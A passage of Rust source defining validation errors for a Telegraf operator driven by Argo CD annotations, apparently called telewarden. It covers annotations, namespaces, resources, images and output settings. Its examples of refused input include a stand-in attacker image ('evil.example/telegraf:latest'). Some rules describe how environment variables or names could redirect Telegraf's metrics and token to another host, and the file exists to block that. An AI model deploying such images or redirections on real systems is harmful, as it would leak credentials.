        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/interval: 30s\n",
    }
    TW302 PodAnnotation { name: String, instead: &'static str } Error {
        summary: "An annotation belongs on a pod of the archived telegraf-operator.",
        message: "`{name}` describes a pod, and there is no pod here",
        help: help(instead),
        why: "telegraf-operator put a sidecar into each annotated pod and scraped that pod's ports. Here the Application or \
              the Namespace names whole URLs.",
        example: "telegraf.influxdata.com/port: \"9121\"\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW303 UnknownClass { class: String, known: Vec<String> } Error {
        summary: "The class is not one of the settings'.",
        message: "there is no class `{class}`",
        help: help(format!("known: {}", list(&known))),
        why: "The class says where the metrics go.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/class: gold\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/class: default\n",
    }
    TW304 ClassNotAllowed { class: String, source: String } Error {
        summary: "The source may not choose this class.",
        message: "`{source}` may not use class `{class}`",
        help: help("choose another class, or ask the administrator to extend the class's `allow`"),
        why: "A class can be kept for some sources: the settings' `classes.<name>.allow`.",
        example: "",
        instead: "",
    }
    TW305 ImageNotAllowed { image: String, allowed: Vec<String> } Error {
        summary: "The settings do not allow this image.",
        message: "the image `{image}` is not allowed",
        help: help(format!("leave the annotation out; allowed: {}", list(&allowed))),
        why: "The image runs with Telegraf's credentials.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/image: evil.example/telegraf:latest\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW306 EnvNotAllowed { name: String } Error {
        summary: "The settings do not allow annotations to set environment variables.",
        message: "`{name}` is not allowed",
        help: help("leave the annotation out, or ask the administrator for `allow.env`"),
        why: "Whoever may annotate an Application need not be allowed to read its namespace's secrets.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/secret-env: database\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW307 EnvName { name: String } Error {
        summary: "An environment variable's name cannot be used.",
        message: "`{name}` cannot be an environment variable's name",
        help: help("use A-Z, a-z, 0-9 and `_`, not a digit first"),
        why: "Telegraf would not find it.",
        example: "",
        instead: "",
    }
    TW308 EnvReserved { name: String } Error {
        summary: "An environment variable is set that the settings use, or that changes where connections go.",
        message: "the environment variable `{name}` is not for annotations to set",
        help: help("choose another name"),
        why: "It would replace the administrator's value, or send Telegraf's traffic and its token elsewhere.",
        example: "",
        instead: "",
    }
    TW309 NotAQuantity { name: String, text: String } Error {
        summary: "What should be a quantity is not one.",
        message: "`{name}`: `{text}` is not a quantity",
        help: help("write it as `100m` (processors) or `64Mi` (memory)"),
        why: "Quantities are Kubernetes' own \
              (<https://kubernetes.io/docs/reference/kubernetes-api/common-definitions/quantity/>).",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: lots\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: 512Mi\n",
    }
    TW310 AboveCeiling { name: String, text: String, ceiling: String } Error {
        summary: "A resource is above what the settings allow.",
        message: "`{name}`: {text} is above {ceiling}",
        help: help(format!("write `{ceiling}` or less")),
        why: "The settings' `allow.maxResources` keeps one source from using up what is there for all.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: 64Gi\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: 1Gi\n",
    }
    TW311 RequestAboveLimit { resource: &'static str, request: String, limit: String } Error {
        summary: "More of a resource is requested than the limit allows.",
        message: "{resource}: the request {request} is above the limit {limit}",
        help: help("raise the limit, or lower the request"),
        why: "Kubernetes refuses such a pod.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/requests-memory: 512Mi\ntelegraf.influxdata.com/limits-memory: 64Mi\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/requests-memory: 64Mi\ntelegraf.influxdata.com/limits-memory: 512Mi\n",
    }
    TW312 AnnotationValue { name: String, text: String, expected: &'static str } Error {
        summary: "An annotation's value is none that it can have.",
        message: "`{name}` cannot be `{text}`",
        help: help(format!("write {expected}")),
        why: "It would be passed on to Telegraf or Kubernetes, which would refuse it.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/metric-version: two\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/metric-version: \"2\"\n",
    }
    TW313 NotShared { name: String } Error {
        summary: "An annotation asks for a Telegraf of its own where all sources share one.",
        message: "`{name}` has no meaning where all sources share one Telegraf",
        help: help("leave it out; the settings choose `topology: standalone`"),
        why: "The one Telegraf cannot have one source's class, image, resources or environment.",
        example: "",
        instead: "",
    }
    TW314 NothingToScrape { } Warning {
        summary: "There are annotations for a Telegraf, and no endpoint.",
        message: "no endpoint is annotated, so this does nothing",
        help: help("add the endpoints, or remove the annotation"),
        why: "Probably the annotation with the endpoints was forgotten, or its name is mistyped.",
        example: "telegraf.influxdata.com/interval: 30s\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/interval: 30s\n",
    }
    TW315 WrittenAnnotation { name: String } Error {
        summary: "An annotation is set by hand that the policy writes.",
        message: "`{name}` is written by the policy, and this value is not its own",
        help: help("leave the annotation out"),
        why: "Whoever reads it takes it for what was rendered and admitted. A value that the object had before may stay, and \
              so may the one that the policy would write.",
        example: "",
        instead: "",
    }
    TW316 EnvTwice { name: String } Error {
        summary: "An environment variable is set by two annotations.",
        message: "the environment variable `{name}` is set by another annotation already",
        help: help("keep one of the two"),
        why: "A container's environment holds each name once; which of the two counts would be left to chance.",
        example: "",
        instead: "",
    }

    TW401 NoNamespace { } Error {
        summary: "The Application does not say which namespace it is deployed to.",
        message: "`spec.destination.namespace` is empty",
        help: help("set it: Telegraf runs in that namespace, and only its services are scraped"),
        why: "Without it nobody knows where Telegraf should run.",
        example: "",
        instead: "",
    }
    TW402 NotANamespace { name: String } Error {
        summary: "A namespace's name is not one.",
        message: "`{name}` cannot be a namespace's name",
        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`, a letter or digit at both ends"),
        why: "It becomes a part of the hosts that may be scraped, and so must be a single DNS label \
              (<https://kubernetes.io/docs/concepts/overview/working-with-objects/names/#dns-label-names>).",
        example: "",
        instead: "",
    }
    TW403 Unreadable { what: &'static str, error: String } Error {
        summary: "The object cannot be read.",
        message: "{what} cannot be read: {error}",
        help: None,
        why: "It has not the shape that Kubernetes or Argo CD gives it.",
        example: "",
        instead: "",
    }
    TW404 ForeignNamespace { namespace: String, allowed: Vec<String> } Warning {
        summary: "The Application is in a namespace that the settings leave out.",
        message: "Applications in namespace `{namespace}` are not served",
        help: help(format!("served: {}; `sources.applicationNamespaces` decides", list(&allowed))),
        why: "Whoever may create Applications in any namespace need not be allowed to deploy a Telegraf into any other.",
        example: "",
        instead: "",
    }
    TW405 OtherCluster { cluster: String } Warning {
        summary: "The Application is deployed to another cluster.",
        message: "the destination is another cluster, `{cluster}`",
        help: help("run an operator there; this one serves its own cluster only"),
        why: "This cluster is `https://kubernetes.default.svc`, or `in-cluster` by name.",
        example: "",
        instead: "",
    }
    TW406 ConfigurationTooLarge { size: usize, limit: usize } Error {
        summary: "The rendered configuration does not fit into a ConfigMap.",
        message: "the configuration is {size} bytes long, and a ConfigMap holds {limit}",
        help: help("leave out endpoints, or choose another topology than `standalone`"),
        why: "Kubernetes limits a ConfigMap to 1 MiB \
              (<https://kubernetes.io/docs/concepts/configuration/configmap/#motivation>).",
        example: "",
        instead: "",
    }
    TW407 Undecided { } Warning {
        summary: "A template's placeholder keeps an annotation from being checked.",
        message: "this depends on a placeholder of the ApplicationSet, and is checked when Applications are made",
        help: None,
        why: "What `{{ }}` stands for is known only to the ApplicationSet controller.",
        example: "",
        instead: "",
    }
    TW408 ProjectRefuses { project: String, why: String } Error {
        summary: "The Application's AppProject does not permit what would be deployed.",
        message: "project `{project}` {why}",
        help: help("change that part of the project, or the Application's project"),
        why: "Argo CD would not deploy there for this Application, and neither may we \
              (<https://argo-cd.readthedocs.io/en/stable/user-guide/projects/>).",
        example: "",
        instead: "",
    }
    TW409 Protocol { found: u32, known: u32 } Error {
        summary: "The host speaks another version of the contract than the module.",
        message: "the request is of protocol {found}, and this module speaks {known}",
        help: help("use a host and a module of the same release"),
        why: "A module of another version could read the request as something else.",
        example: "",
        instead: "",
    }

    TW410 DuplicateSource { source: String } Warning {
        summary: "The same object is given twice.",
        message: "`{source}` is given twice, and only the first counts",
        help: help("leave one of the two out"),
        why: "Both would render to objects of the same names. In a folder of manifests it is often a copy.",
        example: "",
        instead: "",
    }

    TW411 OutputAddress { source: String, address: String } Error {
        summary: "A name would change the address of an output.",
        message: "with the names of `{source}` in it, an output's address would be `{address}`",
        help: help("rename it, or ask the administrator for outputs that do not depend on this name"),
        why: "The settings put the name into an output's URL. A dot in the name would make another host of it, and metrics \
              and token would be sent there.",
        example: "",
        instead: "",
    }
    TW412 InClusterDisabled { } Error {
        summary: "Argo CD does not deploy to the cluster that it runs in.",
        message: "Argo CD deploys nothing to this cluster: `cluster.inClusterEnabled` is false in `argocd-cm`",
        help: help("choose another destination, or set `cluster.inClusterEnabled` to true"),
        why: "Argo CD would not deploy there for this Application, and neither may we \
              (<https://argo-cd.readthedocs.io/en/stable/operator-manual/argocd-cm-yaml/>).",
        example: "",
        instead: "",
    }

    TW501 Settings { error: String, nearest: Option<&'static str> } Error {
        summary: "Settings do not match the schema.",
        message: "{error}",
        help: did_you_mean(nearest).or_else(|| help("`telewarden schema settings` prints what is allowed")),
        why: "An unknown key is a mistake more often than not, so it is refused, not ignored.",
        example: "topologie: standalone\n",
        instead: "topology: standalone\n",
    }
    TW502 NoOutput { class: String } Error {
        summary: "A class has no output.",
        message: "class `{class}` has no output",
        help: help("add one, such as `influxdb_v2: [{{urls: [\"http://influxdb.influxdb.svc:8086\"], …}}]`".replace("{{", "{").replace("}}", "}")),
        why: "Telegraf does not start without an output, and the metrics would go nowhere.",
        example: "classes: {default: {outputs: {}}}\n",
        instead: "classes: {default: {outputs: {file: [{files: [stdout]}]}}}\n",
    }
    TW503 NoSuchClass { class: String, known: Vec<String> } Error {
        summary: "The default class is not one of the classes.",
        message: "there is no class `{class}`",
        help: help(format!("known: {}", list(&known))),
        why: "Every source that names no class uses it.",
        example: "defaultClass: gold\n",
        instead: "defaultClass: default\n",
    }
    TW504 Pattern { pattern: String, why: &'static str } Error {
        summary: "A pattern can never match.",
        message: "`{pattern}` {why}",
        help: help("a host pattern is made of labels; `*` stands for one or more whole labels: `*.{namespace}.svc`".to_owned()),
        why: "A pattern that matches nothing would refuse every endpoint, and one that is read otherwise than it was meant \
              could allow any.",
        example: "endpoints: {hosts: [\"*argocd.svc\"]}\n",
        instead: "endpoints: {hosts: [\"*.argocd.svc\"]}\n",
    }
    TW505 Placeholder { name: String, known: &'static str } Error {
        summary: "A placeholder is not known here.",
        message: "`{{{name}}}` is not known here",
        help: help(format!("known here: {known}; a literal brace is written `{{{{`")),
        why: "It would be passed on as it is, and nothing would be called so.",
        example: "inputs: {tags: {prometheus_app: \"{app}\"}}\n",
        instead: "inputs: {tags: {prometheus_app: \"{bucket}\"}}\n",
    }
    TW506 TelegrafValue { why: &'static str } Error {
        summary: "A value cannot be written as Telegraf's configuration.",
        message: "{why}",
        help: help("use text, numbers, booleans, lists of one kind of these, and maps with bare keys (A-Z, a-z, 0-9, `_`, `-`)"),
        why: "Telegraf's TOML parser is older than TOML 1.0: no null, no list that mixes kinds, bare keys only.",
        example: "classes: {default: {globalTags: {cluster: null}}}\n",
        instead: "classes: {default: {globalTags: {cluster: data}}}\n",
    }
    TW507 AnnotationKey { key: String } Error {
        summary: "The annotation's name cannot be one.",
        message: "`{key}` cannot be an annotation's name",
        help: help("write `prefix.example.com/name`, or a name alone; names have at most 63 characters"),
        why: "Kubernetes would never show an object with it \
              (<https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/#syntax-and-character-set>).",
        example: "annotation: \"telegraf endpoints\"\n",
        instead: "annotation: example.com/telegraf-endpoints\n",
    }
    TW508 OwnPlugin { plugin: String } Error {
        summary: "The settings configure a plugin that is rendered for the probes.",
        message: "`{plugin}` is rendered by telewarden itself",
        help: help("leave it out"),
        why: "The liveness probe asks `outputs.health` on a port of its own.",
        example: "classes: {default: {outputs: {health: [{service_address: \"http://:1\"}]}}}\n",
        instead: "",
    }
    TW509 ExtraResource { why: String } Error {
        summary: "An extra resource cannot be rendered.",
        message: "{why}",
        help: help("write `apiVersion`, `kind` and `metadata.name`, leave out `metadata.namespace`, and set no label or annotation of Argo CD's tracking"),
        why: "Extra resources are namespaced objects, one for each source, in the source's namespace.",
        example: "extraResources: [{kind: Secret}]\n",
        instead: "extraResources: [{apiVersion: v1, kind: Secret, metadata: {name: \"{application}-token\"}}]\n",
    }
    TW510 Routing { why: &'static str } Error {
        summary: "In `standalone` the metrics cannot be told apart.",
        message: "{why}",
        help: help("leave `tagpass` out, or use `tagdrop`"),
        why: "All sources share one Telegraf, and an output takes the metrics of one source by a tag. Telegraf lets a metric \
              pass that matches any tag of `tagpass`, so a second one would let the metrics of other sources through \
              (<https://docs.influxdata.com/telegraf/v1/configuration/#metric-filtering>).",
        example: "topology: standalone\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: t, tagpass: {tier: [web]}}]}}}\n",
        instead: "topology: standalone\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: t, tagdrop: {tier: [web]}}]}}}\n",
    }
    TW511 DnsLabel { text: String, what: &'static str } Error {
        summary: "A name in the settings is not a DNS label.",
        message: "`{text}` cannot be {what}",
        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`, a letter or digit at both ends"),
        why: "Kubernetes would refuse every object with it.",
        example: "instance: \"my operator\"\n",
        instead: "instance: my-operator\n",
    }
    TW512 Image { image: String, why: &'static str } Error {
        summary: "The image cannot be used.",
        message: "the image `{image}` {why}",
        help: help("write it with a tag or a digest, version 1.38 or later: `docker.io/library/telegraf:1.40-alpine`"),
        why: "The rendered configuration and command line need Telegraf 1.38 or later.",
        example: "pod: {image: \"docker.io/library/telegraf:1.30\"}\n",
        instead: "pod: {image: \"docker.io/library/telegraf:1.40\"}\n",
    }
    TW513 OpenEgress { class: String } Warning {
        summary: "The NetworkPolicy cannot say where an output's connections go.",
        message: "the NetworkPolicy leaves all destinations open for class `{class}`: an output's address is not known",
        help: help("write the output's URL out, without a variable"),
        why: "A NetworkPolicy is rendered from the URLs; a variable has its value only in the pod.",
        example: "networkPolicy: true\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"${INFLUX_URL}\"], token: t, organization: o, bucket: b}]}}}\n",
        instead: "networkPolicy: true\n",
    }
    TW514 ReservedName { name: String, what: &'static str } Error {
        summary: "The settings set a label or an annotation that would give the objects to somebody else.",
        message: "`{name}` cannot be {what}",
        help: help("leave it out"),
        why: "Argo CD takes an object with its tracking label or annotation for the application's own, and prunes it \
              (<https://argo-cd.readthedocs.io/en/stable/user-guide/resource_tracking/>); telewarden finds its own objects by \
              its labels.",
        example: "pod: {labels: {\"app.kubernetes.io/instance\": argocd}}\n",
        instead: "pod: {labels: {team: square}}\n",
    }
    TW515 MutationShared { } Error {
        summary: "The rendered objects cannot be written into a source that has none of its own.",
        message: "`mutation: resources` cannot be used with `topology: standalone`",
        help: help("write `mutation: digest` or `mutation: none`, or choose another topology"),
        why: "In `standalone` all sources share one Telegraf, so no single source has objects that could be written into it.",
        example: "topology: standalone\nmutation: resources\n",
        instead: "topology: standalone\nmutation: digest\n",
    }
}
